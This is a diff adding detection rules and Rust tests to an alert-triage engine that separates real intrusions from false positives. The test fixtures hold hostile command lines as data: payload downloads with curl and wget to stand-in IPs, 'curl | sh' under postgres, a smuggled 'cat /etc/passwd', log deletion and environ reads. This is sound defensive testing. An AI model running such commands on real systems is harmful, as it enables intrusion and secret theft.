@@ -807,6 +807,26 @@ mod tests {
   condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (httpd, nginx)
   output: shell (shell=%proc.name parent=%proc.pname)
   priority: WARNING
+- rule: Run shell untrusted
+  desc: shell under a database or php
+  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (postgres, php-fpm)
+  output: shell (shell=%proc.name parent=%proc.pname cmdline=%proc.cmdline)
+  priority: NOTICE
+- rule: Read environ
+  desc: process environments read
+  condition: evt.type = openat and fd.name glob /proc/*/environ
+  output: environ read (file=%fd.name process=%proc.name)
+  priority: WARNING
+- rule: Exec from tmp
+  desc: binary run from /tmp
+  condition: evt.type = execve and proc.exepath startswith /tmp/
+  output: exec from tmp (exe=%proc.exepath parent=%proc.pname)
+  priority: WARNING
+- rule: Terminal probe
+  desc: terminal helper
+  condition: evt.type = execve and proc.name = tput
+  output: tput (cmdline=%proc.cmdline)
+  priority: NOTICE
 "#;
 
     fn engine() -> Engine {
@@ -947,5 +967,217 @@ mod tests {
         );
         assert_eq!(r[0].verdict, Verdict::Uncertain);
         assert_eq!(r[0].score, 0.5);
+    }
+
+    fn verdict_of(lines: &[String], rule: &str) -> Vec<ClusterReport> {
+        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
+        run(&refs, Lang::En, &History::empty())
+            .into_iter()
+            .filter(|c| c.rule == rule)
+            .collect()
+    }
+
+    fn l(v: serde_json::Value) -> String {
+        v.to_string()
+    }
+
+    fn signals(c: &ClusterReport) -> Vec<&str> {
+        c.reasons.iter().map(|r| r.signal.as_str()).collect()
+    }
+
+    /// An attacker's exec into a production pod: a tty through the runtime, then a payload
+    /// fetched and run, then a log deleted. Not a person's quiet session.
+    #[test]
+    fn attacker_exec_into_a_pod_is_not_a_false_positive() {
+        let base = json!({"proc.sid":300,"container.id":"abc123abc123","container.image.repository":"shop/web","proc.tty":34817,"evt.rawres":0});
+        let mk = |extra: serde_json::Value| {
+            let mut v = base.clone();
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            l(v)
+        };
+        let lines = vec![
+            mk(json!({"evt.type":"execve","evt.rawtime":100,"proc.name":"bash","proc.pname":"runc"})),
+            mk(json!({"evt.type":"execve","evt.rawtime":110,"proc.name":"curl","proc.pname":"bash","proc.aname[2]":"runc","proc.cmdline":"curl -so /tmp/k http://203.0.113.7/k"})),
+            mk(json!({"evt.type":"execve","evt.rawtime":120,"proc.name":"k","proc.exepath":"/tmp/k","proc.pname":"bash","proc.aname[2]":"runc"})),
+            mk(json!({"evt.type":"unlinkat","evt.rawtime":130,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"})),
+        ];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert_eq!(r.len(), 1);
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(!signals(&r[0]).contains(&"interactive_session"), "{:?}", signals(&r[0]));
+        assert!(signals(&r[0]).contains(&"session_download"));
+    }
+
+    /// A reverse shell at a pty: the terminal is real but stdin is a socket.
+    #[test]
+    fn reverse_shell_at_a_pty_is_not_a_false_positive() {
+        let lines = vec![l(json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":301,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34818,"proc.pname":"bash","proc.aname[2]":"sshd","proc.stdin_type":"ipv4","fs.path.name":"/var/log/dpkg.log"}))];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"network_stdio"));
+        assert!(!signals(&r[0]).contains(&"interactive_session"));
+    }
+
+    /// A service account logging in over ssh and fetching a payload.
+    #[test]
+    fn service_account_login_with_a_payload_is_not_a_false_positive() {
+        let u = json!({"proc.sid":302,"user.name":"www-data","user.uid":33,"user.loginuid":33,"proc.tty":34819,"evt.rawres":0});
+        let mk = |extra: serde_json::Value| {
+            let mut v = u.clone();
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            l(v)
+        };
+        let lines = vec![
+            mk(json!({"evt.type":"execve","evt.rawtime":10,"proc.name":"wget","proc.pname":"bash","proc.aname[2]":"sshd","proc.cmdline":"wget http://198.51.100.4/x.tgz"})),
+            mk(json!({"evt.type":"unlinkat","evt.rawtime":20,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"})),
+        ];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        let s = signals(&r[0]);
+        assert!(s.contains(&"system_account_terminal") && s.contains(&"session_download"), "{s:?}");
+    }
+
+    /// A web worker reading process environments through a shell.
+    #[test]
+    fn web_worker_reading_environments_is_not_a_false_positive() {
+        let lines = vec![l(json!({"evt.type":"openat","evt.rawres":3,"proc.sid":303,"evt.rawtime":5,"proc.name":"cat","proc.aname[1]":"sh","proc.aname[2]":"php-fpm","user.name":"www-data","user.uid":33,"fd.name":"/proc/1/environ"}))];
+        let r = verdict_of(&lines, "Read environ");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+    }
+
+    /// A database's own archive command through a shell: not likely real; an injected
+    /// command under the same database still is.
+    #[test]
+    fn database_archive_command_is_not_likely_real() {
+        let ok = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":304,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c test ! -f /mnt/archive/0000000100000000000000A1 && cp pg_wal/0000000100000000000000A1 /mnt/archive/0000000100000000000000A1"}))];
+        let r = verdict_of(&ok, "Run shell untrusted");
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"known_benign"));
+        let bad = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":305,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c curl -s http://203.0.113.9/pg_wal/x | sh"}))];
+        let r = verdict_of(&bad, "Run shell untrusted");
+        assert!(!signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive);
+    }
+
+    /// A web application sending mail: `sh -c sendmail` under php-fpm.
+    #[test]
+    fn web_app_mail_is_not_likely_real() {
+        let ok = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":306,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c /usr/sbin/sendmail -t -i"}))];
+        let r = verdict_of(&ok, "Run shell untrusted");
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        let bad = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":307,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c sendmail x; cat /etc/passwd"}))];
+        let r = verdict_of(&bad, "Run shell untrusted");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+    }
+
+    /// A build tool running the binary it just linked in a temp directory.
+    #[test]
+    fn build_tool_generated_binary_is_not_likely_real() {
+        let lines = vec![
+            l(json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":308,"evt.rawtime":5,"proc.name":"link","proc.pname":"go","fd.name":"/tmp/go-build2291/b001/exe/main"})),
+            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":308,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/go-build2291/b001/exe/main","proc.pname":"go","proc.aname[2]":"bash"})),
+        ];
+        let r = verdict_of(&lines, "Exec from tmp");
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        assert!(!signals(&r[0]).contains(&"dropped_binary"));
+        // The same path written by curl is dropped.
+        let lines = vec![
+            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":4,"proc.name":"curl","proc.pname":"sh","proc.cmdline":"curl -o /tmp/x/main http://203.0.113.5/m"})),
+            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/x/main","proc.pname":"sh"})),
+        ];
+        let r = verdict_of(&lines, "Exec from tmp");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+    }
+
+    /// A terminal helper probing the terminal in a person's session.
+    #[test]
+    fn terminal_probe_is_not_likely_real() {
+        let lines = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":310,"evt.rawtime":5,"proc.name":"tput","proc.cmdline":"tput cols","proc.tty":34820,"proc.pname":"bash","proc.aname[2]":"sshd"}))];
+        let r = verdict_of(&lines, "Terminal probe");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+    }
+
+    /// A piped exec through the runtime (no tty) is not a person's session.
+    #[test]
+    fn piped_runtime_exec_is_not_interactive() {
+        let lines = vec![l(json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":311,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"}))];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert!(!signals(&r[0]).contains(&"interactive_session"), "{:#?}", r[0]);
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive);
+    }
+
+    /// The same deletion by the same binary with the same lineage shape, once by an
+    /// operator and once after a download: one signature, two verdicts, two clusters.
+    #[test]
+    fn mixed_cluster_is_split_by_verdict() {
+        let op = |sid: i64, t: i64| {
+            l(json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":sid,"evt.rawtime":t,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}))
+        };
+        let lines = vec![
+            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":400,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"})),
+            op(400, 2),
+            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":401,"evt.rawtime":1,"proc.name":"curl","proc.cmdline":"curl -o /tmp/p http://203.0.113.1/p","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"})),
+            op(401, 2),
+        ];
+        let r = verdict_of(&lines, "Clear Log Activities");
+        assert_eq!(r.len(), 2, "{r:#?}");
+        assert_ne!(r[0].verdict, r[1].verdict);
+        assert_ne!(r[0].cluster, r[1].cluster);
+        assert_eq!(r[0].signature, r[1].signature);
+        assert_eq!(r[0].members, vec![1]);
+        assert_eq!(r[1].members, vec![3]);
+        assert!(r.iter().all(|c| c.cluster.len() == 12));
+        // Ids are stable: the same input gives the same ids.
+        let again = verdict_of(&lines, "Clear Log Activities");
+        assert_eq!(again[0].cluster, r[0].cluster);
+        assert_eq!(again[1].cluster, r[1].cluster);
+    }
+
+    /// Two alerts of one person's quiet session do not count against each other, and a
+    /// session quell did not see (bare alerts) is never called quiet.
+    #[test]
+    fn a_benign_sessions_alerts_do_not_count_against_each_other() {
+        let lines = vec![
+            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"})),
+            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":2,"proc.name":"tput","proc.cmdline":"tput cols","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"})),
+            l(json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":500,"evt.rawtime":3,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"})),
+        ];
+        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
+        let all = run(&refs, Lang::En, &History::empty());
+        assert_eq!(all.len(), 2, "{all:#?}");
+        for c in &all {
+            assert!(!signals(c).contains(&"session_other_alerts"), "{c:#?}");
+        }
+        assert!(all.iter().all(|c| c.verdict == Verdict::LikelyFalsePositive), "{all:#?}");
+        let op = run(OPERATOR, Lang::En, &History::empty());
+        assert!(signals(&op[0]).contains(&"session_quiet"), "{:#?}", op[0]);
+        let bare = [r#"{"rule":"Clear Log Activities","output_fields":{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log","proc.sid":9}}"#];
+        let r = run(&bare, Lang::En, &History::empty());
+        assert!(!signals(&r[0]).contains(&"session_quiet"), "{:#?}", r[0]);
+    }
+
+    /// Fitted weights change the score; the table's weights are the default.
+    #[test]
+    fn weights_come_from_the_table() {
+        let r = run(OPERATOR, Lang::En, &History::empty());
+        let mut w = signals::table().weights();
+        let base: f64 = r[0]
+            .features
+            .iter()
+            .map(|(id, f)| w[id.as_str()] * f)
+            .sum();
+        assert!((sigmoid(base) - r[0].score).abs() < 0.002, "{base} {}", r[0].score);
+        w.insert("interactive_session".into(), 0.0);
+        let e = engine();
+        let recs = parse_records(&OPERATOR.join("\n"), "t").unwrap();
+        let cat = Catalogue::builtin();
+        let h = History::empty();
+        let t = Triage { engine: &e, catalogue: &cat, history: &h, lang: Lang::En, hostname: "h" };
+        let r2 = t.run_with(&recs, &w, &mut |_, _| {});
+        assert!(r2[0].score < r[0].score);
     }
 }
